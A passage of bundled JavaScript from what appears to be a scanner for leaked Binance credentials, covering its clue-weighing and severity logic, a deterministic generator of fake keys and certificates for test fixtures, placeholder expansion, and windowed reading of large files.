/** One observation for each place, in order of place. */
function distinct(credentials) {
	return [...new Map(credentials.map((one) => [`${documentKey(one)}\0${String(one.start.line)}:${String(one.start.column)}`, one])).values()].sort(inOrder);
}
/**
* The strongest clue to the project, for each path: what its own file says is counted there already. Of a package that was
* installed only what stands in it counts: it is another project.
*/
function projectClues(observations, { name }) {
	const projects = observations.filter((one) => one.kind === "project" && one.clue !== void 0).sort((a, b) => b.clue.bits - a.clue.bits || (a.path < b.path ? -1 : 1));
	const named = name !== void 0 && require_worth_reading.meaningOf(name).binance === "name" ? [clue("binance-repository", "the repository’s name says Binance")] : [];
	const packages = new Map(projects.map((one) => [one, installedPackage(one.path)]));
	return (path) => {
		const home = installedPackage(path);
		const other = projects.find((one) => one.path !== path && (home === void 0 || packages.get(one) === home));
		const own = home === void 0 ? named : [];
		return other ? [...own, other.clue] : own;
	};
}
/** The folder of the package that a path lies in, where a package manager put it there. */
function installedPackage(path) {
	return /^(?:.*\/)?(?:node_modules|site-packages|dist-packages|bower_components|jspm_packages|Pods)\/(?:@[^/]+\/)?[^/]+\//.exec(path)?.[0];
}
/** A private key in a file, or a value of the environment, that the program which calls Binance names. */
function namedElsewhere(observations) {
	const projects = observations.filter((one) => one.kind === "project");
	const files = new Set(projects.flatMap(({ keyFiles }) => keyFiles));
	const variables = new Set(projects.flatMap((one) => one.variables ?? []));
	return ({ shape, path, variable }) => [.../private-key$/.test(shape) && files.has(path.slice(path.lastIndexOf("/") + 1)) ? [clue("key-file-named", "a program that calls Binance loads this file")] : [], ...variable !== void 0 && variables.has(variable) ? [clue("variable-named", "a program gives this variable to a client of Binance")] : []];
}
/** One value is one credential: what is known of it at one place is known everywhere. */
function shareBetweenEqualValues(cases) {
	const byValue = /* @__PURE__ */ new Map();
	for (const item of cases) {
		if (item.observation.shape === "passphrase" || item.observation.shape === "listen-key") continue;
		require_gates.addToGroup(byValue, item.observation.fingerprint, item);
	}
	for (const places of byValue.values()) {
		if (places.length < 2) continue;
		const best = places.reduce((most, { clues }) => Math.max(most, total(clues, "binance")), -Infinity);
		const certain = places.some(({ clues }) => confidenceOf(clues) === "certain");
		const leading = places.map(({ clues }) => roleOf(clues)).sort((a, b) => b.lead - a.lead)[0];
		for (const { clues } of places) {
			if (best >= 6 && total(clues, "binance") < 6) clues.push(clue("same-value", "the same value stands elsewhere as Binance’s"));
			if (certain && confidenceOf(clues) !== "certain") clues.push(clue("same-credential", "the same value certainly is one elsewhere"));
			if (leading && leading.role !== "unknown" && roleOf(clues).role === "unknown") clues.push(clue("role-same-value", "the same value has this role elsewhere", leading.role));
		}
	}
}
/** The finding that a case earns, if any. */
function findingOf({ observation, clues, pair }, { name } = {}) {
	const { documented, masked, fingerprint, environment, path, origin, start, end } = observation;
	const confidence = documented ? "certain" : confidenceOf(clues);
	if (!confidence) return void 0;
	const { role } = roleOf(clues);
	return {
		rule: documented ? "documented-example" : ruleOf(observation.shape, role),
		role,
		severity: documented ? "info" : severityOf(observation, role, pair !== void 0),
		confidence,
		message: messageOf(observation, role, confidence),
		masked,
		fingerprint,
		environment,
		...pair ? { pair: pair.observation.fingerprint } : {},
		...name === void 0 ? {} : { repository: name },
		path,
		start,
		end,
		origin,
		evidence: [...counted(clues).map(({ signal, bits, says }) => ({
			signal,
			bits,
			says
		})), ...require_first.isTestnet(observation) && observation.environmentBy !== void 0 ? [{
			signal: "environment",
			bits: 0,
			says: `${observation.environmentBy} says ${environment}`
		}] : []]
	};
}
function ruleOf(shape, role) {
	if (shape === "listen-key") return "listen-key";
	if (shape === "passphrase") return "key-passphrase";
	if (shape === "signature") return "signed-request";
	return role === "api-key" || role === "private-key" ? role : "secret-key";
}
/** How bad it is if true: by role, one step less in samples and tests, at most low on a testnet. */
function severityOf({ shape, sample, environment }, role, paired) {
	return require_first.lessened(shape === "listen-key" ? "low" : shape === "encrypted-private-key" || shape === "signature" || role === "api-key" && !paired ? "medium" : role === "unknown" && !paired ? "high" : "critical", {
		sample,
		environment
	});
}
/** A recorded request is one only where its API key is found too, and is no published example. */
function withKeys(findings) {
	const keyed = new Set(findings.filter(({ rule }) => rule === "api-key").map(documentKey));
	return findings.filter((finding) => finding.rule !== "signed-request" || keyed.has(documentKey(finding)));
}
/** A pair is told only where the other half is reported too, suppressed or not. */
function withPairs(kept, all) {
	const reported = new Set(all.map(({ fingerprint }) => fingerprint));
	return kept.map((finding) => {
		if (finding.pair === void 0 || reported.has(finding.pair)) return finding;
		const { pair: _, ...alone } = finding;
		return alone;
	});
}
function inOrder(a, b) {
	if (a.path !== b.path) return a.path < b.path ? -1 : 1;
	return a.start.line - b.start.line || a.start.column - b.start.column || ((a.rule ?? "") < (b.rule ?? "") ? -1 : 1);
}
// ../engine/dist/fakes.js
/**
* Fake credentials and look-alikes, made from a name: the same name always gives the same value. For examples and
* tests only; none was ever anyone's key, and the RSA primes are not even prime.
*/
/** The kinds that have a fixed name; `alnumN`, `hexN`, `HEXN` and `base64-N` carry their length. */
const MAKERS = {
	key64: (bytes) => redraw(() => letters(bytes, BASE62, 64), looksLikeAKey),
	jwt: (bytes) => [
		base64url("{\"alg\":\"HS256\",\"typ\":\"JWT\"}"),
		base64url(`{"sub":"${letters(bytes, DIGITS, 10)}"}`),
		bytes(32).toString("base64url")
	].join("."),
	"pem-ed25519": (bytes) => pem("PRIVATE KEY", ed25519(bytes)),
	"pem-rsa": (bytes) => pem("PRIVATE KEY", rsaPkcs8(bytes)),
	"pem-rsa-pkcs1": (bytes) => pem("RSA PRIVATE KEY", rsaPkcs1(rsaNumbers(bytes))),
	"pem-encrypted": (bytes) => pem("ENCRYPTED PRIVATE KEY", encrypted(bytes)),
	"pem-ec": (bytes) => pem("EC PRIVATE KEY", ec(bytes)),
	"pem-public": (bytes) => pem("PUBLIC KEY", rsaPublic(bytes)),
	"pem-cert": (bytes) => pem("CERTIFICATE", certificate(bytes)),
	"der-ed25519": (bytes) => ed25519(bytes).toString("base64"),
	"der-rsa": (bytes) => rsaPkcs8(bytes).toString("base64"),
	"xml-rsa": (bytes) => rsaXml(rsaNumbers(bytes))
};
const SIZED = /^(alnum|hex|HEX|base64-)([1-9]\d{0,4})$/;
const made = /* @__PURE__ */ new Map();
/** Whether `fake` knows the kind: `key64`, `hex40`, `pem-rsa`, … */
function isFakeKind(kind) {
	return Object.hasOwn(MAKERS, kind) || SIZED.test(kind);
}
/**
* The fake value of this kind and label; several lines for `pem-…` (no newline at the end), else one.
* @throws Error when the kind is unknown
*/
function fake(kind, label) {
	const name = `${kind}:${label}`;
	let value = made.get(name);
	if (value === void 0) {
		value = make(kind, byteStream(name));
		made.set(name, value);
	}
	return value;
}
function make(kind, bytes) {
	const maker = Object.hasOwn(MAKERS, kind) ? MAKERS[kind] : void 0;
	if (maker) return maker(bytes);
	const [, alphabet, digits] = SIZED.exec(kind) ?? [];
	const length = Number(digits);
	switch (alphabet) {
		case "alnum": return letters(bytes, BASE62, length);
		case "hex": return letters(bytes, HEX, length);
		case "HEX": return letters(bytes, HEX.toUpperCase(), length);
		case "base64-": return redraw(() => letters(bytes, `${BASE62}+/`, length), (text) => /[+/]/.test(text));
		default: throw new Error(`There is no fake of the kind "${kind}".`);
	}
}
const DIGITS = "0123456789";
const HEX = `${DIGITS}abcdef`;
const BASE62 = `ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz${DIGITS}`;
/** SHA-256 over the name and a counter, as an endless stream. */
function byteStream(name) {
	let counter = 0;
	let rest = Buffer.alloc(0);
	return (count) => {
		while (rest.length < count) {
			const block = (0, node_crypto.createHash)("sha256").update(`bnguard example\0${name}\0${counter++}`).digest();
			rest = Buffer.concat([rest, block]);
		}
		const taken = rest.subarray(0, count);
		rest = rest.subarray(count);
		return taken;
	};
}
function letters(bytes, alphabet, length) {
	const fair = 256 - 256 % alphabet.length;
	let text = "";
	while (text.length < length) {
		const byte = bytes(1).readUInt8();
		if (byte < fair) text += alphabet.charAt(byte % alphabet.length);
	}
	return text;
}
function redraw(draw, good) {
	let text = draw();
	while (!good(text)) text = draw();
	return text;
}
/** The range in which the true keys of 59 public histories lie, a little tighter. */
function looksLikeAKey(text) {
	const counts = /* @__PURE__ */ new Map();
	for (const char of text) counts.set(char, (counts.get(char) ?? 0) + 1);
	let entropy = 0;
	for (const count of counts.values()) entropy -= count / text.length * Math.log2(count / text.length);
	return /[a-z]/.test(text) && /[A-Z]/.test(text) && /\d/.test(text) && counts.size >= 34 && counts.size <= 45 && entropy >= 4.9 && !/(.)\1\1/.test(text);
}
function base64url(text) {
	return Buffer.from(text).toString("base64url");
}
function der(tag, ...contents) {
	const body = Buffer.concat(contents);
	const size = body.length;
	const length = size < 128 ? [size] : size < 256 ? [129, size] : [
		130,
		size >> 8,
		size & 255
	];
	return Buffer.concat([Buffer.from([tag, ...length]), body]);
}
const sequence = (...contents) => der(48, ...contents);
const octets = (...contents) => der(4, ...contents);
const bits = (content) => der(3, Buffer.from([0]), content);
const oid = (hex) => der(6, Buffer.from(hex, "hex"));
const nothing = der(5);
/** An unsigned integer below 2^15, or of any size as bytes: a zero byte goes before a set top bit. */
function integer(value) {
	if (typeof value === "number") return der(2, Buffer.from(value < 128 ? [value] : [value >> 8, value & 255]));
	return der(2, ...value.readUInt8() >= 128 ? [Buffer.from([0])] : [], value);
}
const RSA_ENCRYPTION = sequence(oid("2a864886f70d010101"), nothing);
const SHA256_WITH_RSA = sequence(oid("2a864886f70d01010b"), nothing);
function pem(title, content) {
	const lines = content.toString("base64").match(/.{1,64}/g) ?? [];
	return [
		`-----BEGIN ${title}-----`,
		...lines,
		`-----END ${title}-----`
	].join("\n");
}
function ed25519(bytes) {
	return sequence(integer(0), sequence(oid("2b6570")), octets(octets(bytes(32))));
}
function rsaNumbers(bytes) {
	const p = odd(bytes(128), 192);
	const q = odd(bytes(128), 192);
	const n = (BigInt(`0x${p.toString("hex")}`) * BigInt(`0x${q.toString("hex")}`)).toString(16);
	const [d, dp, dq, u] = [
		odd(bytes(256), 64),
		odd(bytes(128), 64),
		odd(bytes(128), 64),
		odd(bytes(128), 64)
	];
	return [
		Buffer.from(n, "hex"),
		Buffer.from([
			1,
			0,
			1
		]),
		d,
		p,
		q,
		dp,
		dq,
		u
	];
}
/** Sets the last bit, and the top bits so that the size is as wanted: 0xc0 the full size, 0x40 one bit less. */
function odd(bytes, top) {
	const number = Buffer.from(bytes);
	number.writeUInt8(number.readUInt8() & 63 | top);
	number.writeUInt8(number.readUInt8(number.length - 1) | 1, number.length - 1);
	return number;
}
function rsaPkcs1(numbers) {
	return sequence(integer(0), ...numbers.map(integer));
}
function rsaPkcs8(bytes) {
	return sequence(integer(0), RSA_ENCRYPTION, octets(rsaPkcs1(rsaNumbers(bytes))));
}
function rsaPublic(bytes) {
	const [n, e] = rsaNumbers(bytes);
	return sequence(RSA_ENCRYPTION, bits(sequence(integer(n), integer(e))));
}
function rsaXml(numbers) {
	return `<RSAKeyValue>${[
		"Modulus",
		"Exponent",
		"D",
		"P",
		"Q",
		"DP",
		"DQ",
		"InverseQ"
	].map((name, at) => `<${name}>${numbers[at]?.toString("base64")}</${name}>`).join("")}</RSAKeyValue>`;
}
/** PBES2 with PBKDF2 and AES-256-CBC, as openssl writes it for an Ed25519 key. */
function encrypted(bytes) {
	const hmac = sequence(oid("2a864886f70d0209"), nothing);
	const derive = sequence(oid("2a864886f70d01050c"), sequence(octets(bytes(8)), integer(2048), hmac));
	const cipher = sequence(oid("60864801650304012a"), octets(bytes(16)));
	return sequence(sequence(oid("2a864886f70d01050d"), sequence(derive, cipher)), octets(bytes(64)));
}
function ec(bytes) {
	const point = Buffer.concat([Buffer.from([4]), bytes(64)]);
	return sequence(integer(1), octets(bytes(32)), der(160, oid("2a8648ce3d030107")), der(161, bits(point)));
}
function certificate(bytes) {
	const text = (value) => der(12, Buffer.from(value));
	const name = sequence(der(49, sequence(oid("550403"), text("example.org"))));
	const dates = sequence(...["250101000000Z", "350101000000Z"].map((date) => der(23, Buffer.from(date))));
	const body = sequence(der(160, integer(2)), integer(odd(bytes(16), 64)), SHA256_WITH_RSA, name, dates, name, rsaPublic(bytes));
	return sequence(body, SHA256_WITH_RSA, bits(bytes(256)));
}
// ../engine/dist/examples.js
/**
* Placeholders in examples and fixtures: `<key64:a>` stands for a fake key, the same one every time, so that no
* key-shaped string is ever committed. The fakes themselves are made in fakes.ts.
*
* `<KIND:LABEL[from,to]|filter|…>`. KIND is one of
*
* - `key64`: 64 mixed letters and digits, like a Binance key
* - `alnumN`, `hexN`, `HEXN`, `base64-N`: N characters of that alphabet
* - `pem-ed25519`, `pem-rsa`, `pem-rsa-pkcs1`, `pem-encrypted`, `pem-ec`, `pem-public`, `pem-cert`: several lines;
*   a placeholder that stands first on its line hands its indentation on to the lines that follow
* - `der-ed25519`, `der-rsa`: base64 of a PKCS#8 key on one line; `xml-rsa`: a .NET RSAKeyValue; `jwt`
*
* What is found without being a value stands between `«` and `»`, which are no part of the text; `«RULE|…»` names the
* rule that finds it, where that is not the example's own (several with commas).
*
* LABEL is lower-case letters, digits, dots and hyphens. In a rule's examples it may begin with the id of another
* rule (`<key64:api-key>`, `<key64:api-key.b>`): the finding that is expected there is that rule's; with `not`
* (`<hex64:not.sum>`), none is. The slice takes a part of the value, either end may be left out. Filters: `base64`,
* `base64nl` (with a newline at the end, then base64), `escaped` (newlines as `\n`), `hex`, `reversed`.
*/
const FILTERS = {
	base64: (text) => Buffer.from(text).toString("base64"),
	base64nl: (text) => Buffer.from(`${text}\n`).toString("base64"),
	escaped: (text) => text.replaceAll("\n", "\\n"),
	hex: (text) => Buffer.from(text).toString("hex"),
	reversed: (text) => [...text].toReversed().join("")
};
const OPENING = /<([A-Za-z][A-Za-z0-9-]*):/g;
const WHOLE = /<[A-Za-z0-9-]+:([a-z0-9.-]+)(?:\[(\d*),(\d*)\])?((?:\|[a-z0-9]+)*)>/y;
const CREDENTIAL = /^(?:key64|hex64|HEX64|(?:pem|der)-(?:ed25519|rsa|rsa-pkcs1|encrypted)|xml-rsa)$/;
/**
* The template with each placeholder replaced by its fake. Anything else stays as it is, markup such as `<xs:element>`
* too.
* @throws Error when a placeholder of a known kind has a bad label, slice or filter: a typo must not go unseen
*/
function expand(template) {
	const placements = [];
	let text = "";
	let done = 0;
	for (const opening of template.matchAll(OPENING)) {
		const [, kind = ""] = opening;
		if (opening.index < done || !isFakeKind(kind)) continue;
		WHOLE.lastIndex = opening.index;
		const found = WHOLE.exec(template);
		if (!found) throw malformed(template, opening.index, "is not <kind:label[from,to]|filter>");
		const [whole, label = "", from, to, filters = ""] = found;
		const value = fake(kind, label);
		const slice = {
			start: Number(from || 0),
			end: Number(to || value.length)
		};
		if (slice.start >= slice.end || slice.end > value.length) throw malformed(template, opening.index, `wants a part of only ${value.length} characters`);
		let shown = value.slice(slice.start, slice.end);
		for (const name of filters.split("|").slice(1)) {
			const filter = Object.hasOwn(FILTERS, name) ? FILTERS[name] : void 0;
			if (!filter) throw malformed(template, opening.index, `has the unknown filter "${name}"`);
			shown = filter(shown);
		}
		text += template.slice(done, opening.index);
		shown = shown.replaceAll("\n", `\n${indentation(text)}`);
		const span = {
			start: text.length,
			end: text.length + shown.length
		};
		const credential = CREDENTIAL.test(kind) && !/^not(?:$|\.)/.test(label);
		placements.push({
			kind,
			label,
			span,
			value,
			slice,
			credential
		});
		text += shown;
		done = opening.index + whole.length;
	}
	return withoutMarks(text + template.slice(done), placements);
}
/** The text without `«` and `»`, which become placements of the kind `marked`, labelled with the rules that they name. */
function withoutMarks(marked, placements) {
	if (!marked.includes("«")) return {
		text: marked,
		placements
	};
	const removed = [];
	const found = [];
	const open = [];
	let text = "";
	let done = 0;
	for (const mark of marked.matchAll(/«(?:([a-z-]+(?:,[a-z-]+)*)\|)?|»/g)) {
		text += marked.slice(done, mark.index);
		done = mark.index + mark[0].length;
		removed.push({
			start: mark.index,
			end: done
		});
		if (mark[0] !== "»") {
			open.push({
				label: mark[1] ?? "",
				start: text.length
			});
			continue;
		}
		const { label, start } = open.pop() ?? {
			label: "",
			start: text.length
		};
		const value = text.slice(start);
		const span = {
			start,
			end: text.length
		};
		found.push({
			kind: "marked",
			label,
			span,
			value,
			slice: {
				start: 0,
				end: value.length
			},
			credential: true
		});
	}
	const moved = (at) => at - removed.reduce((sum, { start, end }) => start < at ? sum + end - start : sum, 0);
	const kept = placements.map(({ span, ...rest }) => ({
		...rest,
		span: {
			start: moved(span.start),
			end: moved(span.end)
		}
	}));
	return {
		text: text + marked.slice(done),
		placements: [...kept, ...found].sort((a, b) => a.span.start - b.span.start)
	};
}
/** The blanks that stand alone before the end of the text on its last line, else nothing. */
function indentation(text) {
	return /(?:^|\n)([ \t]*)$/.exec(text)?.[1] ?? "";
}
function malformed(template, at, problem) {
	return /* @__PURE__ */ new Error(`The placeholder "${template.slice(at, at + 30)}" ${problem} (see examples.ts).`);
}
// ../engine/dist/explain.js
/** Why a candidate or a risk is judged as it is: every clue, the sums, and what would have changed the verdict. */
/** One explanation for each candidate of the document, then for each risk, in order of place. */
function explain(document) {
	const observations = observe(document);
	const project = projectClues(observations, {});
	const risks = observations.filter((one) => one.kind === "risk");
	const ofCredentials = casesOf(observations.filter((one) => one.kind === "credential"), observations, project).map((item) => explanationOf("credential", item.observation, item.clues, findingOf(item)));
	const ofRisks = risks.map((risk) => {
		const clues = [...risk.clues, ...project(risk.path)];
		return explanationOf("risk", {
			...risk,
			masked: ""
		}, clues, riskFinding(risk, clues));
	});
	return [...ofCredentials, ...ofRisks];
}
function explanationOf(what, { start, masked }, clues, finding) {
	const counting = counted(clues);
	return {
		what,
		...finding ? { finding } : {},
		start,
		masked,
		clues: [...counting, ...clues.filter((clue) => !counting.includes(clue))],
		counted: counting,
		totals: {
			credential: total(clues, "credential"),
			risk: total(clues, "risk"),
			binance: total(clues, "binance"),
			role: total(clues, "role")
		},
		missing: missing(clues, what)
	};
}
/** The clues, one for each way, that alone would lift the confidence to the next tier. */
function missing(clues, what) {
	const now = confidenceOf(clues, what);
	const next = now === "certain" ? void 0 : now === "likely" ? "certain" : now === "possible" ? "likely" : "possible";
	if (!next) return [];
	const lacking = [what, "binance"].map((question) => ({
		question,
		bits: thresholds[question][next] - total(clues, question)
	})).filter(({ bits }) => bits > 0);
	const [only, ...more] = lacking;
	if (!only || more.length > 0) return lacking.map(({ question, bits }) => `${String(bits)} more bits for the question ${question === "binance" ? "whether it is Binance’s" : `whether it is a ${question}`}`);
	const strongest = new Map(counted(clues).map((clue) => [`${clue.question}/${clue.group}`, clue.bits]));
	return Object.values(signals).filter(({ question, group, bits, ofRisks }) => (what === "risk" || !ofRisks) && question === only.question && bits - (strongest.get(`${question}/${group}`) ?? 0) >= only.bits).map(({ help, bits }) => `${help} (+${String(bits)})`).slice(0, 6);
}
// ../engine/dist/reading-class.js
/**
* Paths for which one text reads the same: what a scan of a history asks, where one blob stood at many paths. Every
* part of the engine that looks at a document's path has its question here.
*/
/**
* The class of a path: two documents of one text whose paths have the same class give the same observations but for
* their `path`. With the text the classes are few. A passphrase is known by its place, so every path of a text that
* speaks of one is a class of its own, and so is that of a credential file; a file that holds nothing but a value names it, so its name counts.
* @returns a text to compare and no more; it may have the path or a part of it in it
*/
function readingClass({ path, text }) {
	const { clues, environment, sample } = toldByPath(path);
	return JSON.stringify([
		languageByName(path),
		environment,
		sample,
		clues.map(({ signal, says }) => [signal, says]),
		otherUseByPath(path),
		botsReading(path),
		manifestName(path),
		nameOfFile({
			path,
			text
		}),
		require_gates.describesServices(path),
		require_gates.mentionsPassphrase(text) || require_gates.credentialFile(path) !== void 0 ? path : ""
	]);
}
// ../engine/dist/risks/files/observe-file.js
/** What is observed of a file that holds credentials by its name. Nothing of its text is kept. */
/** `text`: of the file, as far as it could be read; whoever has not read it leaves it out. */
function observeFile(file, text) {
	const { path } = file;
	return {
		kind: "file",
		...file,
		...text !== void 0 && { filled: require_gates.holdsSecrets(path, text) },
		...require_gates.namesBinance(path, text ?? "") && { namesBinance: true }
	};
}
// ../engine/dist/windows.js
/**
* From a file's bytes to the documents worth reading: the whole of it up to 8 MB, beyond that windows around the
* hits of the gates. Windows follow from the hits' offsets alone, never from how the bytes were read. No files here:
* the caller brings the bytes.
*/
const LIMITS = {
	whole: 8 << 20,
	pad: 262144,
	head: 65536,
	longestRun: 65536,
	chunk: 2 << 20
};
/** The documents of one file, in order; none where no gate hits. Needs some 40 MB at most, however large the file. */
function* documents(source, path, origin, limits = LIMITS) {
	if (source.size > limits.whole) return yield* windows(new Reader(source, limits), path, origin, limits);
	const bytes = new Uint8Array(source.size);
	const whole = bytes.subarray(0, fill(source, 0, bytes));
	if (whole.length === 0) return "empty";
	const decoded = require_gates.isWanted(path, whole) ? require_gates.decode(whole) : void 0;
	if (decoded?.kind === "text") yield {
		path,
		origin,
		text: decoded.text
	};
	return decoded === void 0 && require_gates.detectEncoding(whole).encoding === "binary" ? "binary" : "text";
}
function* windows(reader, path, origin, limits) {
	let head;
	for (const window of windowsAround(hitsIn(reader.source, limits), reader.source.size, limits)) {
		const start = reader.boundary(window.start);
		const place = reader.placeOf(start);
		const bytes = reader.window({
			start,
			end: reader.boundary(window.end)
		});
		const text = require_gates.decodeAs(bytes, reader.encoding);
		const [from, to] = [window.focus.start, window.focus.end].map((offset) => offset <= window.start ? 0 : offset >= window.end ? text.length : reader.textOffset(bytes, start, offset));
		yield {
			path,
			origin,
			text,
			...start > reader.mark && {
				start: place,
				head: head ??= reader.head(limits.head)
			},
			...(from > 0 || to < text.length) && { focus: {
				start: from,
				end: to
			} }
		};
	}
	if (reader.windowed) return "text";
	return reader.encoding === "binary" ? "binary" : "text";
}
/**
* Every hit with `pad` bytes on either side. Windows that touch become one until it would be longer than `whole`; the
* next then begins before the next hit, and their common part is shared out: to the first what starts up to its last
* hit, to the second what starts shortly before its first one.
*/
function* windowsAround(hits, size, { pad, whole }) {
	const reach = pad >> 6;
	let open;
	for (const hit of hits) {
		const start = Math.max(0, hit.start - pad);
		const end = Math.min(size, hit.end + pad);
		if (open !== void 0 && start <= open.end && end - open.start <= whole) {
			open.end = Math.max(open.end, end);
			open.lastHit = Math.max(open.lastHit, hit.end);
			continue;
		}
		let from = start;
		if (open !== void 0) {
			if (start < open.end) from = Math.min(open.end, hit.start, Math.max(open.lastHit, hit.start - reach));
			yield {
				start: open.start,
				end: open.end,
				focus: {
					start: open.from,
					end: start < open.end ? from : open.end
				}
			};
		}
		open = {
			start,
			end,
			lastHit: hit.end,
			from
		};
	}
	if (open !== void 0) yield {
		start: open.start,
		end: open.end,
		focus: {
			start: open.from,
			end: open.end
		}
	};
}
/**
* The hits in a whole file, in the order of their starts, without runs that are too long. Each is reported from a
* chunk that shows as much behind its start as decides that, so that chunks leave no trace.
*/
function* hitsIn(source, { chunk, longestRun }) {
	const before = 2;
	const behind = 2 * longestRun + 2;
	const buffer = new Uint8Array(before + behind + chunk);
	let base = 0;
	let kept = 0;
	for (let settled = 0;;) {
		const length = kept + fill(source, base + kept, buffer.subarray(kept));
		const ended = length < buffer.length || base + length >= source.size;
		const limit = ended ? length : length - behind;
		for (const { start, end, gate } of require_gates.gateHits(buffer, 0, length)) {
			if (start < settled - base || start >= limit) continue;
			const letters = end - start > 1 && buffer[start + 1] === 0 ? (end - start + 1) / 2 : end - start;
			if (gate !== "run" || letters <= longestRun) yield {
				start: base + start,
				end: base + end,
				gate
			};
		}
		if (ended) return;
		settled = base + limit;
		buffer.copyWithin(0, limit - before, length);
		base = settled - before;
		kept = length - limit + before;
	}
}
/** Reads until `into` is full or the source ends; never past the source's size. Returns how much it read. */
function fill(source, offset, into) {
	const wanted = Math.min(into.length, source.size - offset);
	let got = 0;
	while (got < wanted) {
		const piece = source.read(offset + got, wanted - got);
		if (piece.length === 0) break;
		into.set(piece.length > wanted - got ? piece.subarray(0, wanted - got) : piece, got);
		got += piece.length;
	}
	return Math.max(0, Math.min(got, wanted));
}
/** Reads stretches of a large file, and counts lines and columns up to them. Stretches must be asked for in order. */
var Reader = class {
	source;
	encoding;
	/** The length of the byte-order mark. */
	mark;
	/** Whether any window was read. */
	windowed = false;
	#chunk;
	#buffer = /* @__PURE__ */ new Uint8Array(0);
	/** The last window, which also serves the counting. */
	#last = {
		start: 0,
		end: 0
	};
	#counted;
	#measured;
	constructor(source, limits) {
		this.source = source;
		this.#chunk = new Uint8Array(limits.chunk);
		const beginning = this.#chunk.subarray(0, fill(source, 0, this.#chunk.subarray(0, limits.head)));
		const { encoding, mark } = require_gates.detectEncoding(beginning);
		this.mark = mark;
		this.encoding = encoding === "utf-8" ? this.#utf8OrLatin1(beginning.subarray(mark)) : encoding;
		this.#counted = {
			offset: mark,
			line: 1,
			lineStart: mark
		};
		this.#measured = {
			offset: mark,
			column: 1
		};
	}
	/** A large file is Latin-1 if its beginning is: its windows must not differ. */
	#utf8OrLatin1(beginning) {
		let end = beginning.length;
		while (end > 0 && beginning.length - end < 3 && beginning[end - 1] >= 128 && beginning[end - 1] < 192) end--;
		if (end > 0 && beginning[end - 1] >= 192) end--;
		const decoded = require_gates.decode(beginning.subarray(0, end));
		return decoded.kind === "text" && decoded.encoding === "latin1" ? "latin1" : "utf-8";
	}
	get #unit() {
		return this.encoding === "utf-16le" || this.encoding === "utf-16be" ? 2 : 1;
	}
	/** The first character boundary from the UTF-8 byte or UTF-16 unit at `offset` on, or the end of the file. */
	boundary(offset) {
		if (offset <= this.mark) return this.mark;
		if (offset >= this.source.size) return this.source.size;
		const even = offset - (this.#unit === 2 ? (offset - this.mark) % 2 : 0);
		const next = /* @__PURE__ */ new Uint8Array(4);
		const length = fill(this.source, even, next);
		if (this.#unit === 2) {
			const high = next[this.encoding === "utf-16le" ? 1 : 0];
			return Math.min(this.source.size, high >= 220 && high <= 223 ? even + 2 : even);
		}
		if (this.encoding !== "utf-8") return even;
		const lead = next.subarray(0, length).findIndex((byte) => byte < 128 || byte >= 192);
		return even + (lead >= 0 ? lead : length < 4 ? length : 0);
	}
	/** The bytes of a stretch, valid until the next. */
	window(span) {
		if (this.#buffer.length < span.end - span.start) this.#buffer = new Uint8Array(span.end - span.start);
		const length = fill(this.source, span.start, this.#buffer.subarray(0, span.end - span.start));
		this.#last = {
			start: span.start,
			end: span.start + length
		};
		this.windowed = true;
		return this.#buffer.subarray(0, length);
	}
	/** Where in the text of a window the byte at `offset` of the file stands. */
	textOffset(window, start, offset) {
		const length = Math.max(0, this.boundary(offset) - start);
		return require_gates.decodeAs(window.subarray(0, Math.min(window.length, length)), this.encoding).length;
	}
	head(length) {
		const bytes = new Uint8Array(Math.max(0, this.boundary(length) - this.mark));
		return require_gates.decodeAs(bytes.subarray(0, fill(this.source, this.mark, bytes)), this.encoding);
	}
	/** The place of the character at `offset`. Lines are counted in bytes; only the last one is decoded. */
	placeOf(offset) {
		const counted = this.#counted;
		while (counted.offset < offset) {
			const bytes = this.#read(counted.offset, offset);
			if (bytes.length === 0) break;
			for (let at = this.#newline(bytes, 0); at >= 0; at = this.#newline(bytes, at + this.#unit)) {
				counted.line++;
				counted.lineStart = counted.offset + at + this.#unit;
			}
			counted.offset += bytes.length;
		}
		if (this.#measured.offset < counted.lineStart) this.#measured = {
			offset: counted.lineStart,
			column: 1
		};
		while (this.#measured.offset < offset) {
			const from = this.#measured.offset;
			const to = Math.min(offset, this.boundary(Math.min(offset, from + this.#chunk.length - 4)));
			const bytes = this.#read(from, to);
			if (bytes.length === 0) break;
			const text = require_gates.decodeAs(bytes, this.encoding === "binary" ? "utf-8" : this.encoding);
			const column = this.#measured.column + text.length;
			this.#measured = {
				offset: from + bytes.length,
				column
			};
		}
		return {
			line: counted.line,
			column: this.#measured.column
		};
	}
	/** The offset of the next line feed in some bytes that begin with a whole character, or -1. */
	#newline(bytes, from) {
		let at = bytes.indexOf(10, from);
		if (this.#unit === 1) return at;
		const little = this.encoding === "utf-16le";
		while (at >= 0 && (little ? at % 2 === 1 || bytes[at + 1] !== 0 : at % 2 === 0 || bytes[at - 1] !== 0)) at = bytes.indexOf(10, at + 1);
		return at < 0 || little ? at : at - 1;
	}
	/** Some of the bytes of `[from, to)`, at least one if there is one, and whole UTF-16 units. Valid until the next. */
	#read(from, to) {
		if (from >= this.#last.start && from < this.#last.end) return this.#buffer.subarray(from - this.#last.start, Math.min(to, this.#last.end) - this.#last.start);
		const length = Math.min(to - from, this.#chunk.length & -2);
		return this.#chunk.subarray(0, fill(this.source, from, this.#chunk.subarray(0, length)));
	}
};
// ../engine/dist/index.js
var dist_exports = /* @__PURE__ */ require_rolldown_runtime.__exportAll({
	Secret: () => Secret,
	byInterest: () => require_gates.byInterest,
	conclude: () => conclude,
	credentialFile: () => require_gates.credentialFile,
	decode: () => require_gates.decode,
	defaultKeyAge: () => 90,
	detect: () => detect,
	detectEncoding: () => require_gates.detectEncoding,
	documents: () => documents,
	expand: () => expand,
	explain: () => explain,
	gateHits: () => require_gates.gateHits,
	isWanted: () => require_gates.isWanted,
	lastRenewal: () => lastRenewal,
	locate: () => locate,
	mayBeWorthReading: () => require_worth_reading.mayBeWorthReading,
	mayHold: () => require_gates.mayHold,
	observe: () => observe,
	observeCredentials: () => observeCredentials,
	observeFile: () => observeFile,
	observeRisks: () => observeRisks,
	passes: () => require_gates.passes,
	readingClass: () => readingClass,
	rules: () => rules,
	signals: () => signals,
	worthReading: () => require_worth_reading.worthReading
});
exports.Secret = Secret;
exports.conclude = conclude;
exports.detect = detect;
exports.dist_exports = dist_exports;
exports.documents = documents;
exports.explain = explain;
exports.lastRenewal = lastRenewal;
exports.observe = observe;
exports.observeCredentials = observeCredentials;
exports.observeFile = observeFile;
exports.observeRisks = observeRisks;
